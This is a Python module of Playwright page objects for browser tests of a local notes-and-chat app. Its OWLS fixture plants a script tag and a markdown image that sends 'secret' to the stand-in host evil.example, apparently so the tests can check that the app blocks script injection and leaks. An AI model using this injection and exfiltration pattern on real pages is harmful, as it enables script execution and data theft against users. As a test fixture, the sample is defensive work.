"""A running server and its page, as a person sees it: page objects for the tests in a real Chromium."""

from __future__ import annotations

import os
import re
import select
import shutil
import subprocess
import sys
import time
from pathlib import Path
from typing import TYPE_CHECKING, Any

from tests.patience import PATIENCE_SECONDS

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Locator, Page, Request, Response

ROOT = Path(__file__).resolve().parents[3]
AUDIT = Path(__file__).parents[1] / "audit"
CHROMIUM = shutil.which("chromium")
ARGUMENTS = [
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
    "--disable-sync", "--no-first-run",
]  # fmt: skip
ANSWER_MS = INGEST_MS = 1000 * PATIENCE_SECONDS  # for pages that no `Visit` opened; a `Visit` waits as long
OWLS = """# The snowy owl

The snowy owl of the observatory is called Cassiopeia. Cassiopeia weighs 2.1 kg and was ringed in 2019.

She eats <script>document.title = 'broken into'</script> lemmings ![leak](http://evil.example/?q=secret) and voles.
"""


class Server:
    """A running `lectern chat` and the log of its sockets."""

    def __init__(self, library: Path, log: Path, *options: str, **settings: str) -> None:
        self.log = log
        environ = os.environ | {
            "PYTHONPATH": os.pathsep.join([str(AUDIT), str(ROOT)]),
            "SOCKET_LOG_OF_TESTS": str(log),
            **settings,
        }
        command = [
            sys.executable,
            "-m",
            "ui.cli",
            "chat",
            "--port",
            "0",
            "--no-browser",
            "--library",
            str(library),
            *options,
        ]
        self.process = subprocess.Popen(command, env=environ, stderr=subprocess.PIPE, text=True, cwd=ROOT)
        self.address = self._address()

    def _address(self, seconds: float = PATIENCE_SECONDS) -> str:
        stderr = self.process.stderr
        assert stderr is not None
        written = ""
        until = time.monotonic() + seconds
        while time.monotonic() < until:
            if not select.select([stderr], [], [], 1.0)[0]:
                continue
            line = stderr.readline()
            written += line
            if found := re.search(r"http://\S+", line):
                return found.group()
            assert line, f"the server ended: {written}"
        raise AssertionError(f"no address after {seconds} s: {written}")

    def close(self) -> str:
        """Stop the server and return what it still wrote."""
        self.process.terminate()
        return self.process.communicate(timeout=PATIENCE_SECONDS)[1]


class Visit:
    """A browser with one tab on the page, with every complaint of it and every address it asked for."""

    def __init__(
        self,
        browser: Browser,
        address: str,
        width: int = 1280,
        height: int = 800,
        script: str = "",
        **context_options: Any,
    ) -> None:
        # Without a GPU Chromium draws every frame of an animation on the CPU.
        still = {"reduced_motion": "reduce"} | context_options
        context = browser.new_context(viewport={"width": width, "height": height}, **still)
        context.set_default_timeout(1000 * PATIENCE_SECONDS)
        context.add_init_script(script)
        self.page: Page = context.new_page()
        self.complaints: list[str] = []
        self.foreign: list[str] = []
        self.page.on("console", lambda m: self._complained(m.text) if m.type == "error" else None)
        self.page.on("pageerror", lambda error: self._complained(str(error)))
        self.page.on("request", lambda request: self._saw(request.url))
        self.page.on("requestfinished", self._finished)
        self.page.on("requestfailed", self._failed)
        self.page.goto(address)
        self.page.wait_for_selector(".welcome, .exchange")
        self.ask = AskTab(self.page)
        self.notes = NotesTab(self.page)
        self.courses = CourseChoice(self.page)

    def _finished(self, request: Request) -> None:
        answer = request.response()
        if answer is not None and answer.status >= 500:
            self.complaints.append(f"{answer.status} for {request.url}: {(request.post_data or '')[:200]}")

    def _complained(self, error: str) -> None:
        # Gradio reports that a page that is left was cut off. What else cuts it off is a complaint of its own.
        if not error.startswith("AbortError") and "Connection errored out" not in error:
            self.complaints.append(error)

    def _failed(self, request: Request) -> None:
        if request.failure != "net::ERR_ABORTED":
            self.complaints.append(f"{request.failure} for {request.url}")

    def _saw(self, url: str) -> None:
        if not url.startswith(("http://127.0.0.1:", "data:", "blob:")):
            self.foreign.append(url)

    def focused(self, test: str) -> None:
        """Wait until the element with the focus passes a test in JavaScript about `element`."""
        self.page.wait_for_function(f"((element) => {test})(document.activeElement)")

    def reload(self) -> None:
        """Load the page again, as far as its conversation."""
        before = list(self.complaints)
        self.page.reload()
        self.page.wait_for_selector(".welcome, .exchange")
        self.complaints[:] = before  # Gradio reports that its open request was cut off

    def close(self) -> None:
        """Close the browser; nothing may have gone wrong in it."""
        self.page.context.close()
        assert not self.foreign, self.foreign
        assert not self.complaints, self.complaints


class AskTab:
    """The conversations, the open one, the question and the sources."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.question = page.get_by_role("textbox", name="Question")
        self.answer = page.locator(".answer")
        self.exchanges = page.locator(".exchange")
        self.sources = page.locator(".source")
        self.scope = page.locator(".scope summary")

    def open(self) -> None:
        """Show this tab."""
        self.page.get_by_role("tab", name="Ask").click()

    def new_conversation(self) -> None:
        """Begin a conversation."""
        self.page.get_by_role("button", name="New conversation").click()
        self.page.wait_for_selector(".welcome")

    def limit(self, *parts: str) -> None:
        """Choose parts of the notes in the list, which closes when the page moves the focus."""
        for part in parts:
            button = self.page.locator(f".scope button[data-part$='/{part}']")
            button.evaluate("(button) => { button.closest('details').open = true; button.click(); }")
            self.page.locator(f".scope button[data-part$='/{part}'][aria-pressed=true]").wait_for(
                state="attached"
            )
        self.page.locator(".scope details").evaluate("(details) => { details.open = true; }")

    def send(self, question: str) -> None:
        """Type a question and press Enter."""
        self.question.fill(question)
        self.page.keyboard.press("Enter")

    def answered(self, question: str) -> None:
        """Ask, and wait for the answer."""
        self.send(question)
        self.page.wait_for_selector(f".exchange.answered:last-of-type:has-text('{question}')")

    def click(self, button: str) -> None:
        """Press a button by its name."""
        self.page.get_by_role("button", name=button).first.click()


class NotesTab:
    """The form that adds notes, and the documents of the library."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.folder = page.get_by_role("textbox", name="A folder on this machine")
        self.progress = page.locator("#progress .progress")

    def open(self) -> None:
        """Show this tab."""
        self.page.get_by_role("tab", name="Notes").click()

    def upload(self, *files: Path) -> None:
        """Choose files, and wait for the report on them."""
        self.page.locator("#upload input[type=file]").set_input_files(list(files))
        self.page.wait_for_selector(f".report:has-text('{files[-1].name}')")

    def add(self, note: Path) -> None:
        """Choose one file, and wait for it in the list."""
        self.page.locator("#upload input[type=file]").set_input_files(note)
        self.row(note.name).wait_for()

    def add_folder(self, folder: Path) -> None:
        """Type the path of a folder and add it."""
        self.folder.fill(str(folder))
        self.page.get_by_role("button", name="Add the folder", exact=True).click()

    def row(self, document: str) -> Locator:
        """Return the line of a document."""
        return self.page.locator(f".library tr:has-text('{document}')")


class CourseChoice:
    """The name of the course at the top, and the list of courses below it."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.summary = page.locator(".courses summary")

    def open(self) -> None:
        """Show the list."""
        if self.page.locator(".courses details[open]").count() == 0:
            self.summary.click()

    def make(self, name: str) -> None:
        """Make a course, and wait for its page."""
        self.open()
        self.page.get_by_label("Name of the new course").fill(name)
        self.page.get_by_role("button", name="New course").click()
        self.page.wait_for_url("**/course/**")
        self._arrive(name)

    def switch(self, name: str) -> None:
        """Go to another course."""
        self.open()
        self.page.locator(".courses").get_by_role("link", name=name, exact=True).click()
        self._arrive(name)

    def remove(self, name: str) -> None:
        """Remove a course; its own page leads to the first one."""
        self.open()
        self.page.get_by_role("button", name=f"Remove the course: {name}", exact=True).click()
        self.page.wait_for_selector(".courses .deleted")

    def come_back(self) -> Response:
        """Come back to the tab, and return the answer of its look at the models."""

        def is_look(response: Response) -> bool:
            predicted = response.url.endswith("/gradio_api/run/predict")
            return predicted and (response.status >= 500 or len(response.json()["data"]) == 3)

        with self.page.expect_response(is_look) as looked:
            self.page.evaluate("dispatchEvent(new Event('focus'))")
        return looked.value

    def _arrive(self, name: str) -> None:
        self.page.wait_for_selector(f".courses summary:has-text('{name}')")
        self.page.wait_for_selector(".welcome, .exchange")
